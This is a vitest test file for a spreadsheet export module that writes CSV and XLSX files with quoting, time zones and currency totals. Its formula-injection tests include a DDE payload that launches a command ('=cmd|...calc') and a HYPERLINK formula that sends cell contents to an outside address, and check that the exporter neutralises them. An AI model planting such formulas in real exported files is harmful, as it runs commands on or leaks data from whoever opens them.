import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { expect, onTestFinished, test } from 'vitest'
import yauzl from 'yauzl'
import { type Cell, harmless, type Sheet, type SheetFormat, writeSheet } from './sheets.ts'

async function* inOne(rows: Cell[][]): AsyncGenerator<Cell[][]> {
  yield rows
}

const aSheet = (columns: Sheet['columns'], rows: Cell[][]): Sheet => ({
  name: 'Payments',
  timeZone: 'Asia/Karachi',
  columns,
  rows: inOne(rows),
})

function aPath(): string {
  const folder = mkdtempSync(join(tmpdir(), 'sheet-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  return join(folder, 'file')
}

async function written(format: SheetFormat, sheet: Sheet): Promise<Buffer> {
  const { path, size } = await writeSheet(aPath(), format, sheet)
  const bytes = readFileSync(path)
  expect(bytes).toHaveLength(size)
  return bytes
}

/** The parts of an archive, by name. */
function partsOf(bytes: Buffer): Promise<Record<string, string>> {
  return new Promise((done, failed) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
      if (error) return failed(error)
      const parts: Record<string, string> = {}
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (problem, stream) => {
          if (problem) return failed(problem)
          buffer(stream).then((part) => {
            parts[entry.fileName] = part.toString()
            zip.readEntry()
          }, failed)
        })
      })
      zip.once('end', () => done(parts))
      zip.readEntry()
    })
  })
}

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"Click")',
]

test('CSV: a mark for UTF-8, lines that end in CR LF, quotes doubled, numbers bare, times by the clocks of the zone', async () => {
  const rows: Cell[][] = [
    ['Komal, "Dr"', 1050.5, new Date('2026-11-17T09:05:00Z'), null],
    ['کومل\r\nبھٹو', -3, null, ' a ; b '],
  ]
  expect((await written('csv', aSheet(['Name', 'Amount', 'Opened (Asia/Karachi)', 'Note'], rows))).toString()).toBe(
    '\uFEFFName,Amount,Opened (Asia/Karachi),Note\r\n"Komal, ""Dr""",1050.5,2026-11-17 14:05,\r\n"کومل\r\nبھٹو",-3,," a ; b "\r\n',
  )
})

test('CON-051: text that begins like a formula gets an apostrophe, in any script; other text and numbers stay', async () => {
  expect(formulas.map(harmless)).toEqual(formulas.map((text) => `'${text}`))
  const plain = ['Komal', "O'Brien", 'a=1', '1-2', '', 'ali@example.org']
  expect(plain.map(harmless)).toEqual(plain)
  const lines = (
    await written(
      'csv',
      aSheet(
        ['Name'],
        formulas.map((text) => [text]),
      ),
    )
  ).toString()
  expect(lines).not.toMatch(/(^|\r\n)"?[\s\uFEFF]*[=+\-@＝＋－＠]/)
})

test('CSV: a formula behind a semicolon, a tab or a line end gets an apostrophe too, also behind quotes and blanks', async () => {
  const texts = ['Lab;=1+1', 'Lab; @SUM(A1)', 'Lab\t+1', 'Lab\n-1', 'Lab;"=1+1"', 'Lab;;＝1+1', 'a; b', 'x, =1']
  const sheet = aSheet(
    ['Name', 'Note'],
    texts.map((text) => ['Hira', text]),
  )
  const lines = (await written('csv', sheet)).toString().split('\r\n').slice(1, -1)
  expect(lines).toEqual([
    `Hira,"Lab;'=1+1"`,
    `Hira,"Lab;' @SUM(A1)"`,
    `Hira,"Lab\t'+1"`,
    `Hira,"Lab\n'-1"`,
    `Hira,"Lab;'""=1+1"""`,
    `Hira,"Lab;;'＝1+1"`,
    'Hira,"a; b"',
    'Hira,"x, =1"',
  ])
})

test('XLSX: typed cells, no formula, a time as a number with a format; formulas stay text when they are edited', async () => {
  const cells: Cell[] = ['<b>&"Komal\u0001', 1050.5, new Date('2026-11-17T09:05:00Z'), null, ...formulas]
  const parts = await partsOf(await written('xlsx', aSheet(['Name <1>'], [cells])))
  expect(Object.keys(parts).toSorted()).toEqual([
    '[Content_Types].xml',
    '_rels/.rels',
    'xl/_rels/workbook.xml.rels',
    'xl/styles.xml',
    'xl/workbook.xml',
    'xl/worksheets/sheet1.xml',
  ])
  const sheet = parts['xl/worksheets/sheet1.xml'] ?? ''
  expect(sheet).not.toContain('<f')
  expect(sheet).toContain('<c t="inlineStr" s="2"><is><t xml:space="preserve">Name &lt;1&gt;</t></is></c>')
  expect(sheet).toContain('<t xml:space="preserve">&lt;b&gt;&amp;&quot;Komal\uFFFD</t>')
  expect(sheet).toContain('<c><v>1050.5</v></c><c s="1"><v>46343.586805555555</v></c><c/>')
  expect(sheet.match(/<c t="inlineStr" s="3">/g)).toHaveLength(formulas.length)
})

test('XLSX: no minute of a day is written as a moment of the minute before, which spreadsheets would show', async () => {
  const midnight = Date.parse('2026-11-16T19:00:00Z')
  const minutes = Array.from({ length: 24 * 60 }, (_, minute) => minute)
  const rows = minutes.map((minute): Cell[] => [new Date(midnight + minute * 60_000)])
  const parts = await partsOf(await written('xlsx', aSheet(['When'], rows)))
  const serials = [...(parts['xl/worksheets/sheet1.xml'] ?? '').matchAll(/<c s="1"><v>([^<]+)</g)]
  // They count in microseconds, and cut what is below a minute.
  const shown = serials.map(([, days]) => Math.floor(Math.round((Number(days) - 46_343) * 86_400_000_000) / 60_000_000))
  expect(shown).toEqual(minutes)
})

test('XLSX: the head is frozen and has a filter, columns are as wide as what they hold, amounts add up by currency', async () => {
  const columns: Sheet['columns'] = [
    'Person',
    { title: 'Recorded (Asia/Karachi)', as: 'time' },
    { title: 'Amount', as: 'money' },
    'Currency',
  ]
  const rows: Cell[][] = [
    ['Komal', new Date('2026-11-17T09:05:00Z'), 1050.5, 'PKR'],
    ['Ali', null, -1050.4, 'PKR'],
    ['Sana', null, 10, 'USD'],
  ]
  const sheet = (await partsOf(await written('xlsx', aSheet(columns, rows))))['xl/worksheets/sheet1.xml'] ?? ''
  expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
  expect(sheet.match(/<col [^>]*width="(\d+)"/g)).toHaveLength(4)
  expect(sheet).toContain('<col min="2" max="2" width="24" customWidth="1"/>')
  expect(sheet).toContain('<c s="4"><v>-1050.4</v></c>')
  // The rows end at the fourth; what is below is no row of the filter.
  expect(sheet).toContain('</sheetData><autoFilter ref="A1:D4"/></worksheet>')
  const sums = sheet.slice(sheet.indexOf('<row/>'))
  expect(
    [...sums.matchAll(/<v>([^<]+)<.*?preserve">(\w+)</g)].map(([, amount, currency]) => [currency, amount]),
  ).toEqual([
    ['PKR', '0.1'],
    ['USD', '10'],
  ])
})

test('XLSX: a sheet without rows or without amounts has no totals', async () => {
  const amount = { title: 'Amount', as: 'money' } as const
  for (const sheet of [aSheet(['Name', amount], []), aSheet(['Name'], [['Komal']])])
    expect((await partsOf(await written('xlsx', sheet)))['xl/worksheets/sheet1.xml']).not.toContain('Total')
})

test.each([
  ['csv', 0],
  ['csv', 1],
  ['xlsx', 0],
  ['xlsx', 1],
] as const)('a %s whose rows end with an error after %i is no file', async (format, good) => {
  async function* broken(): AsyncGenerator<Cell[][]> {
    if (good) yield [['one']]
    throw new Error('stopped')
  }
  // So deep that they have ended before there is a folder to write to.
  const path = join(aPath(), ...Array<string>(300).fill('deep'), 'sheet')
  await expect(writeSheet(path, format, { ...aSheet(['Name'], []), rows: broken() })).rejects.toThrow('stopped')
})

test.each(['csv', 'xlsx'] as const)('a %s without rows has its head', async (format) => {
  const bytes = await written(format, aSheet(['Name'], []))
  expect(format === 'csv' ? bytes.toString() : Object.keys(await partsOf(bytes)).length).toBe(
    format === 'csv' ? '\uFEFFName\r\n' : 6,
  )
})
